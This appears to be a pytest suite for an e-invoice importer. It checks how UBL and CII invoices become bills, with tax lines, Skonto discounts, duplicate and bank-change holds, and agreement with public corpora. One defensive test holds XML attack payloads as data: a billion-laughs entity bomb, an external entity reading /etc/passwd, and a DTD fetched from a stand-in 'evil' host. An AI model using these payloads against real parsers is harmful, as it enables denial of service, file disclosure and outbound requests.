"""E-invoices become bills: our own small ones for each rule, the public corpora for agreement."""

import time
from decimal import Decimal
from pathlib import Path

import pytest
from lxml import etree

from tests.importing.desk import Desk
from workingcapital.errors import BadInput
from workingcapital.importing import import_files
from workingcapital.importing.realdata import e_invoices, manifest_agreement, read_one
from workingcapital.importing.report import Rejection
from workingcapital.importing.settings import ImportSettings
from workingcapital.importing.xmlfile import UnsafeDocument
from workingcapital.store.database.context import Identity

GOOD, BAD = "DE89370400440532013000", "DE12123456781234567890"

UBL = """<?xml version="1.0" encoding="UTF-8"?>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
  xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:ID>{number}</cbc:ID><cbc:IssueDate>2024-01-30</cbc:IssueDate>{due}<cbc:InvoiceTypeCode>{kind}</cbc:InvoiceTypeCode>
  <cbc:DocumentCurrencyCode>{currency}</cbc:DocumentCurrencyCode>
  <cac:OrderReference><cbc:ID>PO-7</cbc:ID></cac:OrderReference>
  <cac:AccountingSupplierParty><cac:Party><cac:PostalAddress><cbc:CityName>Köln</cbc:CityName>
    <cac:Country><cbc:IdentificationCode>DE</cbc:IdentificationCode></cac:Country></cac:PostalAddress>
    <cac:PartyTaxScheme><cbc:CompanyID>DE 811907980</cbc:CompanyID>
      <cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:PartyTaxScheme>
    <cac:PartyLegalEntity><cbc:RegistrationName>Rheinwerk Teile GmbH</cbc:RegistrationName></cac:PartyLegalEntity>
  </cac:Party></cac:AccountingSupplierParty>
  <cac:PaymentMeans><cbc:PaymentMeansCode>{means}</cbc:PaymentMeansCode>
    <cac:PayeeFinancialAccount><cbc:ID>{iban}</cbc:ID></cac:PayeeFinancialAccount></cac:PaymentMeans>
  <cac:PaymentTerms><cbc:Note>{terms}</cbc:Note></cac:PaymentTerms>
  <cac:TaxTotal><cbc:TaxAmount currencyID="EUR">19.00</cbc:TaxAmount><cac:TaxSubtotal>
    <cbc:TaxableAmount>100.00</cbc:TaxableAmount><cbc:TaxAmount>19.00</cbc:TaxAmount>
    <cac:TaxCategory><cbc:ID>S</cbc:ID><cbc:Percent>19</cbc:Percent></cac:TaxCategory></cac:TaxSubtotal></cac:TaxTotal>
  <cac:LegalMonetaryTotal><cbc:TaxExclusiveAmount>100.00</cbc:TaxExclusiveAmount>
    <cbc:TaxInclusiveAmount>119.00</cbc:TaxInclusiveAmount><cbc:PayableAmount>{payable}</cbc:PayableAmount></cac:LegalMonetaryTotal>
  <cac:InvoiceLine><cbc:ID>1</cbc:ID><cbc:InvoicedQuantity>4</cbc:InvoicedQuantity>
    <cbc:LineExtensionAmount>100.00</cbc:LineExtensionAmount>
    <cac:Item><cbc:Name>Lager 6204</cbc:Name>
      <cac:ClassifiedTaxCategory><cbc:Percent>19</cbc:Percent></cac:ClassifiedTaxCategory></cac:Item>
    <cac:Price><cbc:PriceAmount>25.00</cbc:PriceAmount></cac:Price></cac:InvoiceLine>
</Invoice>"""


def ubl(**changes: str) -> str:
    blanks = {
        "number": "RE-1", "due": "<cbc:DueDate>2024-02-29</cbc:DueDate>", "kind": "380", "currency": "EUR",
        "means": "58",
        "iban": GOOD, "terms": "Danke", "payable": "119.00",
    }  # fmt: skip
    return UBL.format(**{**blanks, **changes})


def test_a_bill_has_its_lines_taxes_seller_account_and_order(desk: Desk) -> None:
    report = desk.load(ubl(), name="bill.xml")
    assert (report.inserted, report.exit_code) == (1, 0)
    (bill,) = desk.ask("select * from invoice where company_id = %(company)s")
    assert (bill["number"], bill["side"], bill["kind"], bill["approval"]) == ("RE-1", "payable", "invoice", "entered")
    assert (bill["net"], bill["tax"], bill["gross"], bill["open_amount"]) == (100, 19, 119, 119)
    assert (str(bill["issue_date"]), str(bill["due_date"]), bill["po_number"]) == ("2024-01-30", "2024-02-29", "PO-7")
    assert (bill["hold_code"], len(bill["source_id"])) == (None, 64)
    (line,) = desk.ask(
        "select description, quantity, unit_price, net, tax_percent from invoice_line where company_id = %(company)s"
    )
    assert tuple(line.values()) == ("Lager 6204", 4, 25, 100, 19)
    assert desk.ask("select category, percent, base, amount from invoice_tax where company_id = %(company)s") == [
        {"category": "S", "percent": Decimal(19), "base": Decimal(100), "amount": Decimal(19)}
    ]
    (seller,) = desk.ask(
        "select name, vat_number, country, city, is_supplier from party where company_id = %(company)s"
    )
    assert tuple(seller.values()) == ("Rheinwerk Teile GmbH", "DE811907980", "DE", "Köln", True)
    assert desk.ask("select iban, status from party_bank_account where company_id = %(company)s") == [
        {"iban": GOOD, "status": "unverified"}
    ]


def test_the_same_file_is_the_same_bill_and_the_same_bill_in_another_file_is_held(desk: Desk) -> None:
    desk.load(ubl(), name="bill.xml")
    assert desk.load(ubl(), name="renamed.xml").unchanged == 1
    report = desk.load(ubl(terms="Vielen Dank"), name="again.xml")
    assert report.inserted == 1
    assert "duplicate" in report.notices[0]
    held = desk.ask(
        "select hold_code, duplicate_of_id is not null as of from invoice where company_id = %(company)s order by"
        " invoice_id"
    )
    assert held == [{"hold_code": None, "of": False}, {"hold_code": "duplicate", "of": True}]


def test_same_number_but_another_amount_is_another_bill(desk: Desk) -> None:
    desk.load(ubl(), name="a.xml")
    desk.load(ubl(payable="100.00"), name="b.xml")
    assert desk.ask("select count(*)::int as n from invoice where company_id = %(company)s and hold_code is null") == [
        {"n": 2}
    ]


@pytest.mark.parametrize(
    ("kind", "payable", "expected"),
    [("380", "-119.00", -119), ("381", "119.00", -119), ("381", "-119.00", -119), ("389", "119.00", 119)],
)
def test_a_payable_below_zero_is_a_credit_note(desk: Desk, kind: str, payable: str, expected: int) -> None:
    assert desk.load(ubl(kind=kind, payable=payable), name="credit.xml").inserted == 1
    (bill,) = desk.ask("select kind, gross, open_amount from invoice where company_id = %(company)s")
    assert bill == {
        "kind": "self_billed" if kind == "389" else "credit_note",
        "gross": Decimal(expected),
        "open_amount": Decimal(expected),
    }


def test_skonto_lines_become_discount_steps_and_the_net_term(desk: Desk) -> None:
    terms = (
        "#SKONTO#TAGE=7#PROZENT=3.00#\n#SKONTO#TAGE=14#PROZENT=2.00#BASISBETRAG=50.00#\n#SKONTO#TAGE=30#PROZENT=0.00#\n"
    )
    desk.load(ubl(terms=terms, due=""), name="skonto.xml")
    assert desk.ask("select due_date::text as d from invoice where company_id = %(company)s") == [{"d": "2024-02-29"}]
    steps = desk.ask(
        "select pay_by::text, percent, base, amount, tax_part, source from discount_step where company_id ="
        " %(company)s order by sequence"
    )
    assert [tuple(step.values()) for step in steps] == [
        ("2024-02-06", Decimal(3), Decimal(119), Decimal("3.57"), Decimal("0.57"), "document"),
        ("2024-02-13", Decimal(2), Decimal(50), Decimal("1.00"), Decimal("0.16"), "document"),
    ]


def test_terms_in_a_sentence_give_due_date_and_discount(desk: Desk) -> None:
    sentence = "Zahlbar innerhalb 30 Tagen netto bis 29.02.2024, 3% Skonto innerhalb 10 Tagen bis 09.02.2024"
    desk.load(ubl(terms=sentence, due=""), name="prose.xml")
    assert desk.ask("select due_date::text as d, term_text as t from invoice where company_id = %(company)s") == [
        {"d": "2024-02-29", "t": sentence}
    ]
    assert desk.ask("select pay_by::text as d, percent as p from discount_step where company_id = %(company)s") == [
        {"d": "2024-02-09", "p": Decimal(3)}
    ]


@pytest.mark.parametrize(("changes", "reason"), [({"iban": BAD}, "checksum"), ({"means": "59"}, "direct debit")])
def test_what_must_not_be_paid_by_us_is_imported_and_held(desk: Desk, changes: dict[str, str], reason: str) -> None:
    assert desk.load(ubl(**changes), name="held.xml").inserted == 1
    (bill,) = desk.ask("select hold_code, hold_reason, open_amount from invoice where company_id = %(company)s")
    assert (bill["hold_code"], bill["open_amount"]) == ("other", 119)
    assert reason in bill["hold_reason"]
    if "iban" in changes:
        assert desk.ask("select status from party_bank_account where company_id = %(company)s") == [
            {"status": "blocked"}
        ]


def test_a_new_account_on_a_bill_of_a_supplier_with_a_verified_one_holds_the_bill(desk: Desk) -> None:
    desk.load(ubl(), name="first.xml")
    desk.ask("update party_bank_account set status = 'verified' where company_id = %(company)s returning 1 as done")
    desk.load(ubl(number="RE-2", iban="GB29 NWBK 6016 1331 9268 19"), name="second.xml")
    assert desk.ask("select hold_code from invoice where company_id = %(company)s and number = 'RE-2'") == [
        {"hold_code": "bank_change"}
    ]
    accounts = desk.ask(
        "select iban, status from party_bank_account where company_id = %(company)s order by account_id"
    )
    assert accounts == [
        {"iban": GOOD, "status": "verified"}, {"iban": "GB29NWBK60161331926819", "status": "unverified"},
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"number": ""}, "number"), ({"currency": "XXX"}, "currency"), ({"payable": "0.00"}, "payable amount"),
        ({"payable": "1e30"}, "PayableAmount"),
        ({"payable": "1.005"}, "payable amount"), ({"due": "<cbc:DueDate>2024-02-30</cbc:DueDate>"}, "DueDate"),
        ({"terms": "#SKONTO#TAGE=7#PROZENT=2#\n"}, "payment terms"),
    ],
)  # fmt: skip
def test_a_bill_that_cannot_be_taken_says_which_field(desk: Desk, changes: dict[str, str], field: str) -> None:
    report = desk.load(ubl(**changes), name="bad.xml")
    assert (report.exit_code, [r.field for r in report.rejected]) == (2, [field])
    assert desk.ask("select from invoice where company_id = %(company)s") == []


LAUGHS = """<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY a "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><Invoice>&d;</Invoice>"""
STEALS = """<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Invoice>&e;</Invoice>"""
FETCHES = """<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd"><Invoice/>"""


@pytest.mark.parametrize("attack", [LAUGHS, STEALS, FETCHES, STEALS.encode("utf-16")])
def test_entities_are_refused_at_once_and_nothing_is_fetched(desk: Desk, attack: str | bytes) -> None:
    started = time.perf_counter()
    with pytest.raises(UnsafeDocument):
        desk.load(
            desk.file(
                attack if isinstance(attack, str) else attack.decode("utf-16").replace("?>", ' encoding="UTF-8"?>', 1),
                "evil.xml",
            )
        )
    assert time.perf_counter() - started < 5


def test_size_depth_and_other_xml_are_refused(desk: Desk) -> None:
    with pytest.raises(UnsafeDocument):
        desk.load(ubl(terms="x" * 5000), name="big.xml", settings=ImportSettings(max_xml_bytes=4000))
    with pytest.raises(BadInput):
        desk.load("<a>" * 10_000 + "</a>" * 10_000, name="deep.xml")
    with pytest.raises(BadInput, match="neither a UBL nor a CII"):
        desk.load("<Document xmlns='urn:iso:std:iso:20022:tech:xsd:pain.001.001.09'/>", name="order.xml")
    with pytest.raises(BadInput, match="holds no statement"):
        desk.load("<Document xmlns='urn:iso:std:iso:20022:tech:xsd:camt.053.001.02'/>", name="camt.xml")
    with pytest.raises(BadInput, match="PDF"):
        desk.load(b"%PDF-1.4 nothing of it", name="broken.pdf")


def test_attached_files_stay_out_of_the_books(desk: Desk) -> None:
    content = "<cbc:EmbeddedDocumentBinaryObject>QUJD</cbc:EmbeddedDocumentBinaryObject>"
    attached = f"<cac:AdditionalDocumentReference>{content}</cac:AdditionalDocumentReference>"
    desk.load(ubl(due=attached), name="attached.xml")
    (row,) = desk.ask("select source_payload -> 'row' ->> 'xml' as xml from invoice where company_id = %(company)s")
    assert "QUJD" not in row["xml"]
    assert etree.fromstring(row["xml"]).findtext("{*}ID") == "RE-1"


# Public corpora

BILLS = """
    select i.number, i.issue_date, i.due_date, i.currency, i.net, i.tax, i.gross, i.kind, i.term_text, p.name,
        p.vat_number,
           (select jsonb_agg(jsonb_build_array(l.sequence, l.quantity::float, l.unit_price::float, l.net::float,
               l.tax_percent::float) order by l.sequence)
            from invoice_line l where l.company_id = i.company_id and l.invoice_id = i.invoice_id) as lines,
           (select jsonb_agg(jsonb_build_array(s.pay_by, s.percent::float, s.amount::float) order by s.sequence)
               from discount_step s
            join instalment t using (company_id, instalment_id) where t.company_id = i.company_id
                and t.invoice_id = i.invoice_id) as steps
    from invoice i join party p using (company_id, party_id) where i.company_id = %(company)s
"""


@pytest.mark.realdata
def test_the_corpora_agree_with_their_manifest_in_every_stated_value(data: Path) -> None:
    agreement = manifest_agreement(data)
    assert {
        name: column["compared"] - column["equal"] for name, column in agreement["columns"].items()
    } == dict.fromkeys(agreement["columns"], 0)
    assert {name: column["compared"] for name, column in agreement["columns"].items()} == {
        "num": 76,
        "issue": 72,
        "due": 28,
        "cur": 76,
        "payable": 76,
    }
    assert agreement["refused"] == {
        "MustangGnuaccountingBeispielRE-20151008_504.pdf": "currency is not stated in the document"
    }


@pytest.mark.realdata
def test_every_xml_of_the_corpora_imports_at_once_and_again_unchanged(desk: Desk, data: Path) -> None:
    files = [path for path in e_invoices(data) if path.suffix == ".xml"]
    assert len(files) == 72
    report = import_files(desk.store, desk.who, desk.company, files)
    assert (report.inserted, report.rejected) == (72, [])
    again = import_files(desk.store, desk.who, desk.company, files)
    assert again.unchanged == 72
    held = desk.ask("select count(*)::int as n from invoice where company_id = %(company)s and hold_code = 'duplicate'")
    assert held[0]["n"] >= 36  # each invoice is there in both syntaxes


@pytest.mark.realdata
@pytest.mark.parametrize(
    ("folder", "one", "other"),
    [
        ("xrechnung_testsuite/standard", "_ubl.xml", "_uncefact.xml"),
        ("zugferd_corpus/XML-Rechnung", ".ubl.xml", ".cii.xml"),
    ],
)
def test_a_ubl_and_cii_pair_is_one_bill(desk: Desk, company, data: Path, folder: str, one: str, other: str) -> None:  # type: ignore[no-untyped-def]
    sides = []
    for ending in (one, other):
        code = company()
        for path in sorted((data / "docs" / folder).rglob(f"*{ending}")):
            import_files(desk.store, Identity("x", (code,)), code, [path])
        with desk.store.loading(Identity("x", (code,))) as books:
            found = books.execute(BILLS + " order by i.source_payload ->> 'file'", {"company": code}).fetchall()
        sides.append(found)
    assert len(sides[0]) == len(sides[1]) > 12
    assert sides[0] == sides[1]


@pytest.mark.realdata
def test_a_zugferd_pdf_is_read_through_the_invoice_inside(data: Path) -> None:
    bill = read_one(data / "docs/zugferd_corpus/ZUGFeRDv1_Mustang/MustangGnuaccountingBeispielRE-20170509_505.pdf")
    assert not isinstance(bill, Rejection)
    assert (bill.number, str(bill.due), bill.gross, bill.party.name) == (
        "RE-20170509/505",
        "2017-05-30",
        Decimal("571.04"),
        "Bei Spiel GmbH",
    )
